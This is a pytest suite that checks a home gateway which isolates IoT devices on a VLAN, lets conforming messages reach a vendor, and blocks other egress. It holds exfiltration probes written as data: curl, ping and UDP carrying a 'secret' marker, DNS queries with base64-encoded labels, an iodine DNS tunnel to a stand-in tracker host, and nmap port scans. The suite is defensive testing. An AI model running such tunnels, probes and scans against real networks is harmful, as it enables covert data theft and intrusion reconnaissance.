"""Devices on the tagged VLAN: what conforms reaches the vendor, all else stays, and the box itself is out of their reach."""

from __future__ import annotations

import json
from collections.abc import Callable
from concurrent.futures import ThreadPoolExecutor

import pytest

from tests.home.client import Done, eventually, status_of
from tests.home.https import DeviceClient, resolve
from tests.home.lab.layout import FOREIGN4, FOREIGN6
from tests.home.sockets import Capture
from tests.vm.lab import layout, watch
from tests.vm.lab.scene import Scene
from tests.vm.lab.traffic import serves, shut

PING = ["ping", "-c", "2", "-W", "2", "-p", "736563726574"]
CURL = ["curl", "-ksS", "-m", "4"]


def at_once(*calls: Callable[[], Done]) -> list[Done]:
    """Run them all at the same time; their ends in the order given."""
    with ThreadPoolExecutor(len(calls)) as pool:
        return [future.result() for future in [pool.submit(call) for call in calls]]


def test_devices_get_leases_and_addresses(vm: Scene) -> None:
    for device in vm.world.devices:
        namespace = layout.namespace(device.number)
        eventually(lambda namespace=namespace: vm.world.lease(namespace), f"{device.id} has a lease", timeout=60)
        lease = vm.world.lease(namespace)
        assert lease["ip"].startswith("10.77.0.")
        assert lease["router"] == lease["dns"] == lease["ntpsrv"] == layout.DMZ4
    assert [a for a in vm.world.addresses6(layout.namespace(1)) if a.startswith("fd4d:7564:726d:2:")]


def test_all_frames_of_the_devices_network_carry_the_tag(vm: Scene) -> None:
    mark = vm.world.trunk.mark()
    serves(vm.house)
    assert {frame.vlan for frame in vm.world.trunk.since(mark)} == {layout.VLAN}


@pytest.mark.parametrize("v6", [False, True], ids=["IPv4", "IPv6"])
def test_a_conforming_message_reaches_the_vendor(vm: Scene, v6: bool) -> None:
    before = len(vm.world.received("acme"))
    envelope = json.loads((vm.house.folder(1) / "message.json").read_text())
    envelope["payload"]["uptime"] = 4242 + v6
    with shut(vm.house, delivery=0), DeviceClient(vm.house, 1, v6=v6) as device:
        assert device.post(json.dumps(envelope).encode(), timeout=20).status in (200, 204)
    bodies = [json.loads(request["body"]) for request in vm.world.received("acme")[before:]]
    assert [b["payload"] for b in bodies if b["payload"]["uptime"] == 4242 + v6] == [envelope["payload"]]
    assert vm.guest.run("mudroom", "ledger", "verify").code == 0


TRIES = {
    "HTTPS to a tracker": [*CURL, f"https://{layout.TRACKER4}/"],
    "HTTPS to a tracker over IPv6": [*CURL, f"https://[{layout.TRACKER6}]/"],
    "HTTPS to the vendor's true address": [
        *CURL,
        "--resolve",
        f"api.acme.example:443:{layout.NET4}10",
        "https://api.acme.example/",
    ],
    "a foreign name at a true address": [
        *CURL,
        "--resolve",
        f"tracker.example:443:{layout.TRACKER4}",
        "https://tracker.example/",
    ],
    "plain HTTP": [*CURL, f"http://{layout.MIRROR4}/?secret"],
    "plain HTTP over IPv6": [*CURL, f"http://[{layout.MIRROR6}]/?secret"],
    "QUIC": ["python3", "-m", "tests.home.quic", layout.TRACKER4],
    "ping": [*PING, FOREIGN4],
    "ping over IPv6": [*PING, FOREIGN6],
    "ping to the provider": [*PING, "192.0.2.1"],
    "UDP": ["python3", "-m", "tests.home.datagram", layout.MIRROR4, "7", b"secret".hex()],
    "UDP over IPv6": ["python3", "-m", "tests.home.datagram", layout.MIRROR6, "7", b"secret".hex()],
    "another time server": ["python3", "-m", "tests.home.datagram", layout.TIME4, "123", "e3" + "00" * 47],
    "the provider's name server": ["kdig", "+time=3", "+retry=0", "@192.0.2.53", "secret.tracker.example"],
    "a name for a tunnel": ["kdig", "+time=3", "+retry=0", f"@{layout.DMZ4}", "c2VjcmV0.t.tracker.example", "TXT"],
    "a tunnel through DNS (iodine)": ["iodine", "-f", "-r", "-P", "secret", "-T", "TXT", layout.DMZ4, "t.tracker.example"],
}


@pytest.mark.parametrize("number", [1, 2, 3])
def test_everything_else_stays_inside(vm: Scene, number: int) -> None:
    """All tries of a device at once: the wires are watched as a whole, and a frame that came out says whose it was."""
    asked = vm.world.questions().count("tracker.example")
    visits, messages = len(vm.world.visits()), vm.world.messages()
    with Capture(layout.INTERNET) as wan, Capture(layout.LAPTOP) as lan:
        ends = at_once(*(vm.world.bound(layout.namespace(number), *argv, timeout=8) for argv in TRIES.values()))
    assert len(ends) == len(TRIES)
    assert {what: end.out for what, end in zip(TRIES, ends, strict=True) if "you are" in end.out} == {}
    assert watch.leaks(wan.frames, vm.world) == []  # with the gateway's own questions for inboxes, each minute
    assert vm.world.messages() == messages
    assert wan.with_marker(b"secret") == []
    assert watch.from_devices(lan.frames) == []
    assert vm.world.received("tracker") == []
    assert len(vm.world.visits()) == visits
    assert vm.world.questions().count("tracker.example") == asked


def test_devices_are_told_approved_names_only(vm: Scene) -> None:
    assert resolve(layout.namespace(1), vm.house.host(1))[0].startswith("10.127.")
    assert resolve(layout.namespace(1), "tracker.example") == []
    # a device that nobody admitted finds where it may enrol, as the others find where they renew, and nothing else
    for number in (1, 3):
        assert resolve(layout.namespace(number), "mudroom.home.arpa") == [layout.DMZ4]
    assert resolve(layout.namespace(3), vm.house.host(1)) == []


@pytest.mark.parametrize("number", [1, 3])
def test_the_box_is_out_of_a_devices_reach(vm: Scene, number: int) -> None:
    """No TCP port of the box answers a device, on whichever of its addresses; but 53, where names are answered (see above), and
    enrolment's 443 on the DMZ's own.
    """
    wan6 = vm.guest.run("ip", "-6", "-o", "address", "show", "dev", "wan0", "scope", "global").out.split()[3].split("/")[0]
    targets = (layout.DMZ4, layout.GATEWAY4, layout.WAN4, layout.DMZ6, layout.GATEWAY6, wan6)
    words = ("-n", "-Pn", "-sT", "-T4", "--max-retries", "0", "-p", "22,67,80,123,443,853,8080,8443")
    scans = [("nmap", *(["-6"] if ":" in target else []), *words, target) for target in targets]
    pages = [(*CURL, f"https://[{target}]/" if ":" in target else f"https://{target}/") for target in targets]
    ends = at_once(*(vm.world.bound(layout.namespace(number), *argv, timeout=25) for argv in (*scans, *pages)))
    scanned, fetched = ends[: len(scans)], ends[len(scans) :]
    for target, end in zip(targets, scanned, strict=True):
        assert watch.open_ports(end.out) == ({"443"} if target in (layout.DMZ4, layout.DMZ6) else set()), target
    assert [target for target, end in zip(targets, fetched, strict=True) if end.code == 0] == []


def test_the_laptop_is_out_of_a_devices_reach(vm: Scene) -> None:
    targets = (vm.world.lease(layout.LAPTOP)["ip"], vm.world.addresses6(layout.LAPTOP)[0])
    tries = [("ping", "-c", "1", "-W", "1", target) for target in targets]
    for target in targets:
        six = ["-6"] if ":" in target else []
        tries.append(("nmap", *six, "-n", "-Pn", "-sT", "-T4", "--max-retries", "0", "-p", "22,80,443", target))
    with Capture(layout.LAPTOP) as lan:
        at_once(*(vm.world.bound(layout.namespace(number), *argv, timeout=20) for number in (1, 2, 3) for argv in tries))
    assert watch.from_devices(lan.frames) == []


def test_one_device_does_not_reach_another(vm: Scene) -> None:
    other = vm.world.lease(layout.namespace(2))["ip"]
    with Capture(layout.namespace(2)) as seen:
        vm.world.run(layout.namespace(1), "ping", "-c", "2", "-W", "1", "-p", "736563726574", other)
        vm.world.run(layout.namespace(1), "python3", "-m", "tests.home.datagram", other, "4444", b"secret".hex())
    assert [str(frame) for frame in seen.with_marker(b"secret") if not frame.outgoing] == []


def test_the_owner_sees_what_was_tried(vm: Scene) -> None:
    def told() -> bool:
        rows = json.loads(vm.guest.run("mudroom", "drops", "--json", "--device", "device-1").out)
        return any(row["reason"] == "not-tls" and row["count"] for row in rows)

    eventually(told, "`mudroom drops` tells of plain HTTP", timeout=60)
    assert status_of(vm.house.curl(3)) == 0, "a stranger with a forged certificate gets no answer"
